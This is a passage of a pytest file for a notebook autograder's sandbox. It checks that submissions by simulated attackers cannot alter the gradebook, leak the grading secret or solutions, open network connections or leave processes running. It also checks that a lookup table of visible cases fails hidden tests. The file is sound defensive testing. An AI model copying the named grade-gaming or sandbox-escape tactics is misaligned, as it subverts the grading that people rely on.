             "    return _KNOWN.get((n_layer, n_kv_head, head_dim, seq_len, batch, bytes_per_elem), 0)\n")
    inbox = tmp_path_factory.mktemp("inbox-kv")
    (inbox / "table").mkdir()
    (inbox / "table" / "kv_cache.ipynb").write_text(json.dumps(kv.answer("kv_cache_bytes", table)))
    assert main(["course", "collect", str(inbox), "--assignment", "kv_cache", "--course", str(root)]) == 0
    course_before = _hashes(root, skip=("gradebook.db", "autograded", "feedback", ".gptlab"))
    package_before = _hashes(REPO / "gptlab")
    results = autograde(Course(root), ["causal_mask", "kv_cache"], workers=2, timeout=TIMEOUT, progress=False)
    time.sleep(1.0)  # what a killed pool would leave would still be there
    survivors = _survivors()
    connections = []
    try:
        while True:
            conn, _ = listener.accept()
            connections.append(conn.recv(100))
    except (TimeoutError, OSError):
        pass
    listener.close()
    assert main(["course", "feedback", "causal_mask", "--course", str(root), "--quiet"]) == 0
    after = {"course": _hashes(root, skip=("gradebook.db", "autograded", "feedback", ".gptlab")),
             "package": _hashes(REPO / "gptlab"), "survivors": survivors, "connections": connections,
             "outside": sorted(p.name for p in outside.iterdir()),
             "victim": [row for row in _grade_rows(root / "gradebook.db") if row[0] == "victim"]}
    before = {"course": course_before, "package": package_before, "victim": victim_before,
              "markers": [marker_solution, marker_student, _secret_text()]}
    return root, plan, {(x["assignment"], x["student"]): x for x in results}, before, after


def _secret_text() -> str:
    from gptlab.course.secret import load_secret

    return load_secret().decode()


def _outputs(root: Path, name: str, student: str, every_cell: bool = False) -> str:
    nb = json.loads((root / "autograded" / student / name / f"{name}.ipynb").read_text())
    parts = []
    for c in nb["cells"]:
        if every_cell or c["metadata"].get("nbgrader", {}).get("grade"):
            for o in c.get("outputs", []):
                parts.append(o.get("text", "") if isinstance(o.get("text"), str) else "".join(o.get("text", [])))
                parts.append(o.get("evalue", ""))
                data = o.get("data", {})
                parts += [v if isinstance(v, str) else "".join(v) for k, v in data.items() if k.startswith("text")]
    return "\n".join(parts)


ATTACKERS = ["atk_gradebook", "atk_daemon", "atk_grader", "atk_kill", "atk_snoop", "atk_delegate", "atk_child",
             "atk_source", "atk_other_copy", "atk_network", "atk_memory"]
HONEST_STUDENTS = ["honest_types", "honest_gc", "honest_pickle", "honest_itemgetter", "honest_habits1", "honest_habits2"]
STUDENTS = ["solution", "blank", "subclass", "buffer8", "setprofile", "alias", "thread", "exec_source",
            "solution_file", "warns", "markdown", "loop", "extra_file", "planted"] + HONEST_STUDENTS + ATTACKERS


def _flagged(root: Path, student: str) -> set[str]:
    return {row[1] for row in _grade_rows(root / "gradebook.db") if row[0] == student and row[4]}


@pytest.mark.slow
def test_files_beside_the_notebook_are_not_there_while_grading(autograded):
    """A learner's helper.py (or torch.py, sitecustomize.py) in the submission folder is removed before
    the kernel starts in it, and the feedback says so."""
    _, _, results, _, _ = autograded
    notes = [n["message"] for n in results[("causal_mask", "extra_file")]["notes"] if n["kind"] == "ignored_files"]
    assert notes and "helper.py" in notes[0], results[("causal_mask", "extra_file")]["notes"]
    assert not [n for n in results[("causal_mask", "solution")]["notes"] if n["kind"] == "ignored_files"]


@pytest.mark.slow
@pytest.mark.parametrize("student", STUDENTS)
def test_attacks_cost_only_their_own_points_and_honest_answers_keep_full_marks(autograded, student):
    """Each submission's scores: the attackers 0 on every test cell, or flagged for review where the
    cell is not 0; the honest notebooks full marks, unflagged; the test cells' outputs say why."""
    root, plan, results, _, _ = autograded
    expected, says = plan[("causal_mask", student)]
    res = results[("causal_mask", student)]
    got = res["notebooks"]["causal_mask"]["grades"]
    flagged = _flagged(root, student)
    if expected is None:
        assert all(v == 0.0 or gid in flagged for gid, v in got.items()), f"{student}: {got}, flagged {flagged}"
    else:
        assert got == expected, f"{student}: {got} (notes: {res['notes']})"
    if student in HONEST_STUDENTS or student == "solution":
        assert flagged == set(), f"{student} was flagged: {res['notes']}"
    text = _outputs(root, "causal_mask", student)
    assert says in text, f"{student}: the test cells' outputs lack {says!r}:\n{text[:3000]}"


@pytest.mark.slow
def test_the_attacks_change_nothing_outside_their_own_notebook(autograded):
    """The gradebook's other rows (a victim graded before), the grader's files and the course folder
    are unchanged byte for byte; no connection left the sandbox; no marker was written outside it."""
    root, _, _, before, after = autograded
    assert after["victim"] == before["victim"] and all(row[2] == 0.0 and row[3] is None for row in after["victim"])
    rows = _grade_rows(root / "gradebook.db")
    assert not [row for row in rows if row[3] is not None], "a manual score was written into the gradebook"
    assert after["package"] == before["package"], "the grader's files changed"
    changed = {k for k in set(before["course"]) | set(after["course"]) if before["course"].get(k) != after["course"].get(k)}
    assert changed == set(), f"the course folder changed: {sorted(changed)[:10]}"
    assert after["connections"] == [] and after["outside"] == []


@pytest.mark.slow
def test_no_process_of_the_run_survives_it(autograded):
    _, _, _, _, after = autograded
    assert after["survivors"] == [], after["survivors"]


@pytest.mark.slow
def test_every_other_student_is_graded_although_one_killed_what_it_could(autograded):
    _, plan, results, _, _ = autograded
    assert {s for (a, s) in results if a == "causal_mask"} >= {s for (a, s) in plan}


@pytest.mark.slow
@pytest.mark.parametrize("student", ATTACKERS)
def test_an_attackers_notebook_and_feedback_hold_nothing_from_outside_it(autograded, student):
    """Whatever the attacker's cells printed (the snoop walks the whole file system it can see):
    neither its graded notebook nor its feedback page holds the instructor's solution, another
    student's notebook or the grading secret."""
    root, _, _, before, _ = autograded
    text = _outputs(root, "causal_mask", student, every_cell=True)
    page = (root / "feedback" / student / "causal_mask" / "causal_mask.html").read_text()
    for marker in before["markers"]:
        assert marker not in text and marker not in page, f"{student} read {marker[:20]}..."


@pytest.mark.slow
def test_flagged_cells_need_the_instructors_review_and_say_so(autograded):
    """A notebook that could switch off the guard, where a test cell forbids a fused op the guard
    alone stops (not here: causal_mask forbids only gptlab's references, absent from the sandbox),
    is flagged; none of the honest notebooks is."""
    root, _, results, _, _ = autograded
    for student in HONEST_STUDENTS + ["solution", "warns", "markdown"]:
        assert not [n for n in results[("causal_mask", student)]["notes"] if n["kind"] == "review"]


@pytest.mark.slow
def test_a_lookup_table_of_the_visible_cases_fails_the_hidden_ones(autograded):
    root, _, results, _, _ = autograded
    got = results[("kv_cache", "table")]["notebooks"]["kv_cache"]["grades"]
    assert got["test_kv_cache_bytes"] == 0.0 and got["test_KVCache"] == 4.0
    assert "hidden inputs" in _outputs(root, "kv_cache", "table")


@pytest.mark.slow
def test_a_hanging_function_costs_one_time_limit(autograded):
    _, _, results, _, _ = autograded
    res = results[("causal_mask", "loop")]
    # the learner's own cell before the test that calls it (the kernel's limit), and ONE test; later tests
    # and the learner's later cells that call it are not run again (before: 30 s in every such cell, 180 s)
    assert res["seconds"] < 2 * TIMEOUT + 45, res["seconds"]
    later = [n["message"] for n in res["notes"] if n["cell"] in ("test_additive_mask", "test_causal_attention_weights")]
    assert len(later) == 2 and all("stopped earlier" in m for m in later), res["notes"]
